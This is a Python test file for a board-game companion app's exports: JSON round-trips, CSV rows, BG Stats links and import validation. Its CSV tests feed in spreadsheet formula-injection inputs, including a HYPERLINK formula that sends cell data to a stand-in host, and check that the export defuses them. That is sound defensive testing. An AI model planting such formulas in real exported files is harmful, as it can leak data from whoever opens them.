"""Play exports (JSON, CSV, BG Stats) and reading an export back (pure)."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
from urllib.parse import unquote

import pytest

from companion.exports import (
    BGSTATS_PREFIX,
    bgstats_link,
    bgstats_play,
    export_csv,
    export_document,
    parse_import,
    replay_import,
)
from companion.games import get_game
from companion.games.errors import RuleError
from companion.plays import new_state, replay, score_of

START = dt.datetime(2024, 3, 9, 19, 5, tzinfo=dt.UTC)


def a_play(names=("Ann", "Bo"), glories=(12, 14), finish=True, seed="seed-1", done=True):
    """A Reavers play; ``done``: each player has nothing more to enter at the end (so the
    finished result is final, not provisional)."""
    initial = new_state("reavers", list(names), {}, seed,
                        get_game("reavers").empty_catalogue())
    events = [{"type": "sheet", "data": {"player": n, "fields": {"glory": g},
                                         **({"done": True} if done else {})}}
              for n, g in zip(names, glories, strict=True)]
    if finish:
        events.append({"type": "finish", "data": {}})
    state = replay(initial, events)
    meta = {"id": "abc123", "game": "reavers", "created_at": START,
            "updated_at": START + dt.timedelta(minutes=47), "finished": state["finished"]}
    return export_document(meta, initial, events, score_of(state))


def test_document_round_trips_through_parse_import_and_replays_to_the_same_result():
    doc = json.loads(json.dumps(a_play()))
    body, events, catalogue = parse_import(doc)
    assert body == {"game": "reavers", "players": doc["players"], "options": doc["options"],
                    "seed": "seed-1", "seat_edits": "all"}
    state, _ = replay_import(initial_of_import(body, catalogue), events)
    assert state["finished"] is True
    assert score_of(state)["winners"] == doc["result"]["winners"] == ["Bo"]


def test_document_dates_are_iso_and_events_keep_their_order():
    doc = a_play()
    assert doc["created_at"] == "2024-03-09T19:05:00+00:00"
    assert [e["type"] for e in doc["events"]] == ["sheet", "sheet", "finish"]


def test_csv_has_one_row_per_player_and_every_scoring_row():
    rows = list(csv.DictReader(io.StringIO(export_csv(a_play()))))
    assert [(r["player"], r["total"], r["rank"], r["winner"]) for r in rows] == [
        ("Ann", "12", "2", "no"), ("Bo", "14", "1", "yes")]
    assert rows[0]["date"] == "2024-03-09" and "glory" in rows[0] and "walls" in rows[0]


def test_csv_defuses_names_a_spreadsheet_would_run_as_formulas():
    rows = list(csv.DictReader(io.StringIO(export_csv(a_play(names=("=SUM(A1)", "Bo"))))))
    assert rows[0]["player"] == "'=SUM(A1)"


@pytest.mark.parametrize("seed", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1",
                                  "@SUM(A1)", "-2+3"])
def test_csv_defuses_every_text_cell_the_seed_too(seed):
    text = export_csv(a_play(seed=seed))
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["seed"] == "'" + seed


def test_bgstats_play_follows_the_documented_fields():
    play = bgstats_play(a_play())
    assert play["sourceName"] == "North Sea Companion" and play["sourcePlayId"] == "abc123"
    assert play["playDate"] == "2024-03-09 19:05:00" and play["durationMin"] == 47
    assert play["game"] == {"name": "Reavers of Midgard", "highestWins": True,
                            "noPoints": False, "sourceGameId": "reavers", "bggId": 242684}
    start = a_play()["start_player"]
    assert play["players"][0] == {"name": "Ann", "score": 12, "winner": False, "rank": 2,
                                  "startPlayer": start == "Ann", "sourcePlayerId": "Ann",
                                  "role": ""}
    assert [p["startPlayer"] for p in play["players"]].count(True) == 1


def test_bgstats_link_is_the_url_encoded_json():
    link = bgstats_link(a_play())
    assert link.startswith(BGSTATS_PREFIX) and " " not in link and "{" not in link
    assert json.loads(unquote(link[len(BGSTATS_PREFIX):])) == bgstats_play(a_play())


def test_no_bgstats_link_while_the_result_is_provisional():
    """A finished play whose end-game rows are still to enter has no winner yet: BG Stats
    would file a wrong one, so it gets no link; the exports say provisional."""
    doc = a_play(done=False)
    assert doc["result"]["provisional"] is True and bgstats_link(doc) is None
    assert [e["player"] for e in doc["result"]["to_enter"]] == ["Ann", "Bo"]
    assert {row["provisional"] for row in csv.DictReader(io.StringIO(export_csv(doc)))} == {
        "yes"}
    final = a_play()
    assert final["result"]["provisional"] is False and bgstats_link(final) is not None
    assert {row["provisional"] for row in csv.DictReader(io.StringIO(export_csv(final)))} == {
        "no"}


def test_no_bgstats_link_while_the_score_cannot_be_computed():
    doc = a_play()
    doc["result"] = {"error": {"code": "x", "message": "box data missing"}}
    assert bgstats_link(doc) is None


@pytest.mark.parametrize("change, field", [
    (lambda d: d.update(format="other"), "format"),
    (lambda d: d.update(format_version="1"), "format_version"),
    (lambda d: d.update(format_version=2), "format_version"),
    (lambda d: d.update(game="chess"), "game"),
    (lambda d: d.update(events={}), "events"),
    (lambda d: d["events"].append({"data": {}}), "events[3].type"),
    (lambda d: d["events"].append({"type": "sheet", "data": []}), "events[3].data"),
    (lambda d: d.update(catalogue=[1]), "catalogue"),
])
def test_parse_import_names_the_field_at_fault(change, field):
    doc = a_play()
    change(doc)
    with pytest.raises(RuleError) as err:
        parse_import(doc)
    assert err.value.field == field


def test_parse_import_rejects_what_is_not_an_object():
    with pytest.raises(RuleError):
        parse_import([1, 2])


def initial_of_import(body, catalogue=None):
    return new_state(body["game"], body["players"], body["options"], body["seed"],
                     catalogue or {})


def test_replay_import_names_the_event_that_breaks_a_rule():
    """An event of the wrong shape is the declaration's 400, naming it; one of the right
    shape that breaks a rule of the play is found by the replay, named and said."""
    doc = a_play()
    doc["events"].insert(1, {"type": "sheet", "data": {"player": "Ann",
                                                       "fields": {"glory": -4}}})
    with pytest.raises(RuleError) as err:
        parse_import(doc)
    assert (err.value.status, err.value.field) == (400, "events[1].data.fields.glory")
    doc = a_play()
    doc["events"].insert(1, {"type": "sheet", "data": {"player": "Zed",
                                                       "fields": {"glory": 4}}})
    body, events, _ = parse_import(doc)
    with pytest.raises(RuleError) as err:
        replay_import(initial_of_import(body), events)
    assert err.value.field == "events[1].data.player" and err.value.status == 422
    assert err.value.message.startswith("Event 2 (sheet):")


def test_replay_import_refuses_changes_after_the_finish():
    doc = a_play()
    doc["events"].append({"type": "advance", "data": {}})
    body, events, _ = parse_import(doc)
    with pytest.raises(RuleError) as err:
        replay_import(initial_of_import(body), events)
    assert err.value.field == "events[3].type" and err.value.status == 422


def test_replay_import_keeps_a_state_every_so_many_events():
    doc = a_play()
    body, events, _ = parse_import(doc)
    state, kept = replay_import(initial_of_import(body), events, keep_every=2)
    assert len(events) == 3 and list(kept) == [2]
    assert kept[2] == replay(initial_of_import(body), events[:2])
    assert state == replay(initial_of_import(body), events) and state["finished"]


def test_a_link_too_long_shortens_its_comments_and_keeps_the_result():
    from companion.exports import BGSTATS_MAX_LINK

    doc = a_play()
    doc["result"]["tiebreak"] = "Decided by a very long story. " * 300
    link = bgstats_link(doc)
    data = json.loads(unquote(link[len(BGSTATS_PREFIX):]))
    assert len(link) <= BGSTATS_MAX_LINK
    assert data["comments"].endswith("…") and len(data["comments"]) > 500
    assert [(p["name"], p["score"]) for p in data["players"]] == [("Ann", 12), ("Bo", 14)]


def test_the_tie_break_is_kept_in_english_and_as_its_message():
    """A shared win's sentence: English for other apps, and its id and parameters beside it
    (what a page needs to say it in German or French); the JSON reads back to the same
    message. An export without the message (an older one) still imports."""
    from companion.games.messages import Message, from_data

    doc = json.loads(json.dumps(a_play(glories=(14, 14))))
    result = doc["result"]
    assert result["tiebreak"] == "Ann and Bo tied on 14: a shared win."
    assert result["tiebreak_message"] == {
        "$message": "%(names)s tied on %(total)s: a shared win.",
        "params": {"names": {"$message": "%(names)s", "params": {"names": ["Ann", "Bo"]}},
                   "total": 14, "place": {"$message": "%(n)sst", "params": {"n": 1}}}}
    said = from_data(result["tiebreak_message"])
    assert isinstance(said, Message) and said == result["tiebreak"]
    del result["tiebreak_message"]
    body, events, catalogue = parse_import(doc)
    state, _ = replay_import(initial_of_import(body, catalogue), events)
    assert state["finished"] is True
